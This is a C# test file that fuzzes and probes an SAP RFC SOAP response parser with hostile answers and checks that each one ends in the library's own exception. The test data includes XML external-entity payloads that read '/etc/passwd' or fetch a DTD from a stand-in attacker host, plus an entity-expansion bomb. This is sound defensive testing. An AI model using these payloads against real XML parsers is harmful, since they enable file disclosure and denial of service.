using System.Net;
using System.Text;
using Btp.Connectivity.Rfc;
using FsCheck;
using FsCheck.Fluent;
using FsCheck.Xunit;

namespace Btp.Connectivity.Runtime.Tests.Rfc;

/// <summary>Answers that mean harm: each ends in an exception of this library, soon and without doing what it says.</summary>
public sealed class HostileAnswerTests
{
    private const string Envelope = "http://schemas.xmlsoap.org/soap/envelope/";

    private static readonly string _good = Soap.Response(
        "<CHAR>abc</CHAR><NUM>0007</NUM><DATE>2026-07-20</DATE><TIME>23:59:59</TIME><PACKED>-1.50</PACKED><LONG_PACKED>1.00000000000000</LONG_PACKED><INT1>255</INT1><INT4>-4</INT4><FLOAT>1.5E3</FLOAT>"
        + "<STRING>&lt;x&gt; &#x1;</STRING><XSTRING>AP8=</XSTRING><RAW>AQID</RAW><DECF16>1E3</DECF16><DECF34>-1E-6000</DECF34><UTCLONG>2026-07-20T08:51:00.4335861Z</UTCLONG>"
        + "<LINE><A>1</A><_-BIC_-B>x</_-BIC_-B></LINE><LINES><item><A>1</A></item><item/></LINES><TEXTS><item>a</item><item/></TEXTS><ROWS><item><CHAR>r</CHAR></item></ROWS>");

    [Fact]
    public void The_answer_from_which_the_others_are_made_is_a_good_one() => Assert.Equal("<x> \u0001", Soap.Read(_good).Own.String);

    [Theory]
    [InlineData("<!DOCTYPE e [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>")]
    [InlineData("<!DOCTYPE e [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;'>]>")]
    [InlineData("<!DOCTYPE e SYSTEM 'http://attacker.example/x.dtd'>")]
    [InlineData("<!DOCTYPE e>")]
    public void A_document_type_is_refused_before_it_means_anything(string declaration) =>
        Assert.IsType<System.Xml.XmlException>(Assert.Throws<RfcFaultException>(() => Soap.Read(declaration + _good)).InnerException);

    [Fact]
    public void An_entity_that_nobody_declared_is_no_text() => Assert.Throws<RfcFaultException>(() => Soap.Read(Soap.Response("<STRING>&xxe;</STRING>")));

    [Theory]
    [InlineData("urn:sap-com:document:sap:rfc:functions", false)]
    [InlineData("urn:sap-com:document:sap:rfc:function", true)]
    [InlineData("urn:attacker", true)]
    [InlineData("", true)]
    public void A_response_in_another_namespace_is_none(string name, bool isRefused)
    {
        var answer = Soap.Envelope($"<Z_EVERY_-TYPE.Response xmlns='{name}'><CHAR xmlns=''>a</CHAR></Z_EVERY_-TYPE.Response>");

        if (isRefused)
            Assert.Throws<RfcFaultException>(() => Soap.Read(answer));
        else
            Assert.Equal("a", Soap.Read(answer).Own.Char);
    }

    [Theory]
    [InlineData("<e:Envelope xmlns:e='http://www.w3.org/2003/05/soap-envelope'><e:Body>{0}</e:Body></e:Envelope>")]
    [InlineData("<e:Envelope xmlns:e='" + Envelope + "'><b:Body xmlns:b='urn:x'>{0}</b:Body></e:Envelope>")]
    [InlineData("<e:Envelope xmlns:e='" + Envelope + "'><e:Header><e:Body>{0}</e:Body></e:Header></e:Envelope>")]
    [InlineData("<html><body>{0}</body></html>")]
    [InlineData("{0}")]
    [InlineData("<e:Envelope xmlns:e='" + Envelope + "'><e:Body><other>{0}</other></e:Body></e:Envelope>")]
    [InlineData("<e:Envelope xmlns:e='" + Envelope + "'/>")]
    public void A_response_anywhere_else_than_in_the_body_is_none(string around)
    {
        var response = $"<r:Z_EVERY_-TYPE.Response xmlns:r='{Soap.Functions}'><CHAR>a</CHAR></r:Z_EVERY_-TYPE.Response>";

        Assert.Throws<RfcFaultException>(() => Soap.Read(around.Replace("{0}", response, StringComparison.Ordinal)));
    }

    [Fact]
    public void The_response_of_another_function_is_none() => Assert.Throws<RfcFaultException>(() => Soap.Read(_good.Replace("Z_EVERY_-TYPE", "Z_OTHER", StringComparison.Ordinal)));

    [Theory]
    [InlineData(HttpStatusCode.InternalServerError)]
    [InlineData(HttpStatusCode.Unauthorized)]
    [InlineData(HttpStatusCode.Found)]
    public void A_response_whose_status_says_no_is_none(HttpStatusCode status) => Assert.Equal(status, Assert.Throws<RfcFaultException>(() => Soap.Read(_good, status)).StatusCode);

    [Fact]
    public void Nesting_without_end_is_passed_over_without_a_stack_for_it()
    {
        const int Depth = 200_000;
        var deep = string.Concat(Enumerable.Repeat("<a>", Depth)) + string.Concat(Enumerable.Repeat("</a>", Depth));

        Assert.Equal("c", Soap.Read(Soap.Response($"<UNKNOWN>{deep}</UNKNOWN><CHAR>c</CHAR>")).Own.Char);
        Assert.Throws<RfcValueException>(() => Soap.Read(Soap.Response($"<CHAR>{deep}</CHAR>")));
        Assert.Throws<RfcFaultException>(() => Soap.Read(Soap.Envelope(deep)));
        Assert.Throws<RfcFaultException>(() => Soap.Read(Soap.Envelope($"<Fault>{deep}</Fault>")));
        Assert.Throws<RfcAbapException>(() => Soap.Read(Soap.Envelope($"<x.Exception>{deep}</x.Exception>")));
    }

    [Fact]
    public void Cut_anywhere_it_is_an_exception_and_never_half_an_answer()
    {
        var bytes = Encoding.UTF8.GetBytes(_good);
        for (var length = 0; length < bytes.Length; length++)
            Assert.ThrowsAny<RfcException>(() => Soap.Read(bytes[..length]));
    }

    [Property(MaxTest = 400)]
    public bool Whatever_bytes_come_no_exception_but_ours_leaves(byte[] noise) => Ends(noise ?? []);

    [Property(MaxTest = 2000)]
    public Property A_damaged_answer_ends_in_a_result_or_in_an_exception_of_ours()
    {
        string[] pieces = ["<", ">", "&", "&#0;", "&#x1;", "]]>", "<![CDATA[", "<item>", "</item>", "<CHAR>", "1E99999", "-", "9999999999999999999999", "\0", "\ud800", "xmlns:r=''", "\"", "<!--", "?>", "24:00:00", "0000-00-00"];
        var bytes = Encoding.UTF8.GetBytes(_good);
        var damage = from place in Gen.Choose(0, bytes.Length - 1)
                     from count in Gen.Choose(0, 12)
                     from piece in Gen.Elements(pieces)
                     select (place, count, piece);
        return Prop.ForAll(Arb.From(damage.ListOf()), list =>
        {
            var broken = bytes.ToList();
            foreach (var (place, count, piece) in list.Take(4))
            {
                var at = Math.Min(place, broken.Count);
                broken.RemoveRange(at, Math.Min(count, broken.Count - at));
                broken.InsertRange(at, Encoding.UTF8.GetBytes(piece));
            }

            return Ends([.. broken]);
        });
    }

    private static bool Ends(byte[] answer)
    {
        foreach (var status in new[] { HttpStatusCode.OK, HttpStatusCode.InternalServerError })
        {
            try
            {
                Soap.Read(answer, status);
            }
            catch (RfcException)
            {
                // As it should be.
            }
        }

        return true;
    }
}
